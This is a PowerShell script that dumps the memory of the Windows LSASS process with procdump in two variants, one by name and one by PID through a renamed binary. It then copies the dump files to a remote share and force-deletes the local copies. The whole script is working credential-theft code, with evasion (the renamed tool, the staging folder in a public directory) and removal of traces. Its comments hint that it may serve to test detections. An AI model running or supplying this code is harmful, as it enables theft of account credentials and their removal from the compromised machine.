param(
    [string]$Tools = 'C:\Users\Public\Libraries',
    [string]$Drop = '\\files01\it$\scratch'
)

Set-Location $Tools
$target = Get-CimInstance Win32_Process -Filter "Name='lsass.exe'"
Write-Output "lsass pid $($target.ProcessId)"

# spelling 1: by name
.\procdump64.exe -accepteula -ma lsass.exe "$Tools\lsa.dmp"

# spelling 2: by pid, renamed binary
& "$Tools\pd.exe" -accepteula -r -ma $target.ProcessId "$Tools\lsa2.dmp"

foreach ($dump in Get-ChildItem -Path $Tools -Filter *.dmp) {
    Copy-Item -Path $dump.FullName -Destination $Drop
    Remove-Item -Path $dump.FullName -Force
}
